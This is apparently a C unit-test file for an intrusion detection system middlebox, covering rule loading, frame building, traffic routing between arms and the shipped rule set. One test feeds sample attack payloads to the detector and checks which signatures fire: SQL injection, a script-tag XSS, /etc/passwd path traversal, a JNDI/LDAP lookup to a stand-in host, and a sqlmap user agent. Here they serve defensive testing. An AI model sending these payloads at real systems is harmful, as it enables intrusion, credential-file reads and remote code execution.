/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * ids: table-driven through the shim. A scenario is a rules file, extra
 * [ids] keys and a list of steps (packet with its expected verdict and
 * alerts, tick, counter check). Every packet must get exactly one verdict
 * and exactly the alerts the step names (none unless it says so), so a
 * duplicate alert fails as surely as a missing one. Rules files are
 * written to temporary files; errors in them must name FILE:LINE.
 *
 * This file holds the rules-file and frame helpers, the descriptor, arm
 * and shipped-configuration tests (test case "core"), and assembles the
 * suite; the other tests are in check_ids_*.c.
 */
#include "check_ids.h"

#define IDS_N_DROPS	5

static const uint8_t v6_a[16] = { 0xfd, [15] = 1 };
static const uint8_t v6_b[16] = { 0x20, 0x01, 0x0d, 0xb8, [15] = 2 };

/* ---- files ------------------------------------------------------------ */

char rules_path[PATH_MAX_];

/* Writes @text to a fresh temporary rules file, named in rules_path. */
const char *
write_rules(const char *text)
{
	size_t len = strlen(text);
	int fd;

	snprintf(rules_path, sizeof(rules_path), "/tmp/check_ids_XXXXXX");
	fd = mkstemp(rules_path);
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, text, len), (ssize_t)len);
	close(fd);
	return rules_path;
}

/* Loads the IDS with @rules and the [ids] keys @extra (from line 3 on,
 * with a default "inside" after them); the rules file is gone afterwards,
 * as the IDS reads it only at init. */
int
init_ids(const char *rules, const char *extra)
{
	char ini[INI_MAX];
	int rc;

	if (extra == NULL)
		extra = "";
	snprintf(ini, sizeof(ini), "[ids]\nrules = %s\n%s%s", write_rules(rules),
		 extra, strstr(extra, "inside") ? "" : "inside = 10.0.0.0/8\n");
	rc = sa_shim_init(&ids_middlebox, ini);
	unlink(rules_path);
	return rc;
}

/* The source tree, from this file's path as the compiler saw it (meson
 * compiles from the build root and runs tests there). */
void
source_path(const char *rel, char *out, size_t size)
{
	const char *file = __FILE__;
	const char *at = strstr(file, "tests/unit/check_ids.c");

	ck_assert_ptr_nonnull(at);
	snprintf(out, size, "%.*s%s", (int)(at - file), file, rel);
}

/* ---- frames ----------------------------------------------------------- */

/* Builds @f with @plen payload bytes from @pl (f->payload when NULL). */
size_t
build_bin(const struct sr_frame *f, const uint8_t *pl, uint32_t plen,
	  uint8_t *buf)
{
	static const enum sr_patch patch[F_COUNT] = {
		[F_GRE] = SR_PATCH_GRE,
		[F_FRAG_FIRST] = SR_PATCH_FRAG_FIRST,
		[F_FRAG_LATER] = SR_PATCH_FRAG_LATER,
	};
	struct pb_spec s;
	size_t len;

	if (f->kind == F_ARP)
		return sr_build_arp(buf);
	if (f->kind == F_TCP6)
		pb_spec_init6(&s, SA_IPPROTO_TCP, v6_a, v6_b, f->sport,
			      f->dport);
	else if (f->kind == F_TCP)
		pb_spec_init4(&s, SA_IPPROTO_TCP, f->src, f->dst, f->sport,
			      f->dport);
	else if (f->kind == F_ICMP)
		pb_spec_init4(&s, SA_IPPROTO_ICMP, f->src, f->dst, 7, 0);
	else
		pb_spec_init4(&s, SA_IPPROTO_UDP, f->src, f->dst, f->sport,
			      f->dport);
	s.tcp_flags = f->flags;
	s.seq = f->seq;
	s.ack = (f->flags & ACK) ? 1 : 0;
	if (f->kind == F_ICMP)
		s.icmp_type = (uint8_t)f->sport;
	s.payload = pl;
	s.payload_len = plen;
	len = pb_build(buf, FRAME_MAX, &s);
	ck_assert_uint_gt(len, 0);
	sr_patch_ip4(buf, patch[f->kind]);
	return len;
}

size_t
build(const struct sr_frame *f, uint8_t *buf)
{
	static const uint8_t none[1];
	const char *pl = f->payload;

	return build_bin(f, pl != NULL ? (const uint8_t *)pl : none,
			 pl != NULL ? (uint32_t)strlen(pl) : 0, buf);
}

/* ---- steps ------------------------------------------------------------ */

/* Every packet is emitted unchanged or dropped, with exactly the alerts
 * its step names. */
const struct sr_ops ids_steps = { build, SR_ARM_UNCHECKED };

/* ---- core ------------------------------------------------------------- */

START_TEST(test_descriptor)
{
	unsigned int i;

	ck_assert_str_eq(ids_middlebox.name, "ids");
	ck_assert_ptr_nonnull(ids_middlebox.process);
	ck_assert_ptr_nonnull(ids_middlebox.tick);
	ck_assert_uint_eq(ids_middlebox.n_drop_names, IDS_N_DROPS);
	ck_assert_int_eq(init_ids(EVIL, NULL), 0);
	for (i = 0; i < ids_middlebox.n_drop_names; i++)
		ck_assert_str_eq(sa_shim_reason_name(SA_DROP_MB_BASE + i),
				 ids_middlebox.drop_names[i]);
	ck_assert_uint_eq(sa_shim_stat("rules"), 1);
	ck_assert_uint_eq(sa_shim_stat("packets"), 0);
	ck_assert_uint_eq(sa_shim_stat("sid_1000"), 0);
	ck_assert_uint_eq(sa_shim_stat("drop_rule-drop"), 0);
	ck_assert_uint_eq(sa_shim_stat("drop_l4-truncated"), 0);
	sa_shim_fini();
}
END_TEST

/* Frames leave by the other arm; one-armed, by the inside prefixes. */
START_TEST(test_arms)
{
	static const struct {
		uint8_t in_arm;
		uint32_t src;
		unsigned int out_arm;
	} cases[] = {
		{ IN, R1, OUT }, { OUT, H(1), IN },
		{ ANY, H(1), OUT }, { ANY, R1, IN },
	};
	struct sr_frame f = TCP(0, 0, 1, 80, ACK, 1, NULL);
	struct sr_frame arp = FRAME(F_ARP, 0, 0, NULL);
	uint8_t buf[FRAME_MAX];
	struct sa_shim_out out;
	unsigned int i;
	size_t len;

	ck_assert_int_eq(init_ids(EVIL, "mode = inline\n"), 0);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		f.src = cases[i].src;
		f.dst = cases[i].src == R1 ? H(1) : R1;
		len = build(&f, buf);
		sa_shim_process(buf, (uint32_t)len, cases[i].in_arm, S(1), &out);
		ck_assert_int_eq(out.verdict, SA_SHIM_EMIT);
		ck_assert_uint_eq(out.arm, cases[i].out_arm);
	}
	/* the direction of a flow outlives a new connection on its tuple */
	f = (struct sr_frame)TCP(H(1), R1, 1, 80, PSH, 1, "x");
	len = build(&f, buf);
	sa_shim_process(buf, (uint32_t)len, ANY, S(1), &out);
	f = (struct sr_frame)TCP(H(1), R1, 1, 80, SYN, 7777, NULL);
	len = build(&f, buf);
	sa_shim_process(buf, (uint32_t)len, ANY, S(1), &out);
	f = (struct sr_frame)TCP(H(1), R1, 1, 80, ACK, 7778, NULL);
	len = build(&f, buf);
	sa_shim_process(buf, (uint32_t)len, ANY, S(1), &out);
	ck_assert_uint_eq(out.arm, OUT);
	ck_assert_uint_eq(sa_shim_stat("flows_reset"), 1);
	len = build(&arp, buf);
	sa_shim_process(buf, (uint32_t)len, OUT, S(1), &out);
	ck_assert_uint_eq(out.arm, IN);
	sa_shim_process(buf, (uint32_t)len, ANY, S(1), &out);
	ck_assert_uint_eq(out.arm, OUT);
	sa_shim_fini();
}
END_TEST

/* The shipped configuration loads with its rules file, and a few of the
 * attacks it is for raise the sids written for them. */
START_TEST(test_shipped_config)
{
	static const struct {
		uint16_t dport;
		const char *payload;
		const char *sid;
	} attacks[] = {
		{ 80, "GET /item.php?id=1 UNION SELECT pass FROM users HTTP/1.1",
		  "sid_1001000" },
		{ 8080, "GET /q?s=<script>alert(1)</script> HTTP/1.1",
		  "sid_1002000" },
		{ 80, "GET /../../../../etc/passwd HTTP/1.1", "sid_1003007" },
		{ 80, "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://e.example/a}\r\n",
		  "sid_1004000" },
		{ 80, "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n",
		  "sid_1005000" },
	};
	char ini_path[PATH_MAX_ * 2], rules[PATH_MAX_ * 2];
	char ini[INI_MAX], text[INI_MAX];
	struct sa_shim_out out;
	uint8_t buf[FRAME_MAX];
	unsigned int i;
	const char *at;
	size_t n;
	FILE *f;

	source_path("configs/ids.ini", ini_path, sizeof(ini_path));
	source_path("configs/ids/rules", rules, sizeof(rules));
	f = fopen(ini_path, "r");
	ck_assert_ptr_nonnull(f);
	n = fread(text, 1, sizeof(text) - 1, f);
	fclose(f);
	text[n] = '\0';
	at = strstr(text, "rules = configs/ids/rules\n");
	ck_assert_ptr_nonnull(at);
	snprintf(ini, sizeof(ini), "%.*srules = %s\n%s", (int)(at - text),
		 text, rules, at + strlen("rules = configs/ids/rules\n"));
	ck_assert_msg(sa_shim_init(&ids_middlebox, ini) == 0, "%s",
		      sa_shim_last_log());
	ck_assert_uint_ge(sa_shim_stat("rules"), 200);
	for (i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		uint16_t sp = (uint16_t)(40000 + i), dp = attacks[i].dport;
		const struct sr_frame fr[] = {
			TCP(RX(1), H(1), sp, dp, SYN, CISN, NULL),
			TCP(H(1), RX(1), dp, sp, SYNACK, SISN, NULL),
			TCP(RX(1), H(1), sp, dp, ACK, CISN + 1, NULL),
			TCP(RX(1), H(1), sp, dp, PSH, CISN + 1,
			    attacks[i].payload),
		};
		unsigned int k;

		for (k = 0; k < sizeof(fr) / sizeof(fr[0]); k++) {
			size_t len = build(&fr[k], buf);

			sa_shim_process(buf, (uint32_t)len, ANY, S(1), &out);
		}
		ck_assert_uint_ge(out.n_alerts, 1);
		ck_assert_msg(sa_shim_stat(attacks[i].sid) == 1, "%s: %s is "
			      "%llu", attacks[i].payload, attacks[i].sid,
			      (unsigned long long)sa_shim_stat(attacks[i].sid));
	}
	sa_shim_fini();
}
END_TEST

static Suite *
ids_suite(void)
{
	Suite *s = suite_create("ids");
	TCase *tc;

	tc = sa_tcase(s, "core", 30);
	tcase_add_test(tc, test_descriptor);
	tcase_add_test(tc, test_arms);
	tcase_add_test(tc, test_shipped_config);
	ids_add_detection(tc);
	ids_add_frames(s);
	ids_add_rules(s);
	ids_add_limits(s);
	return s;
}

SA_CHECK_MAIN(ids_suite)
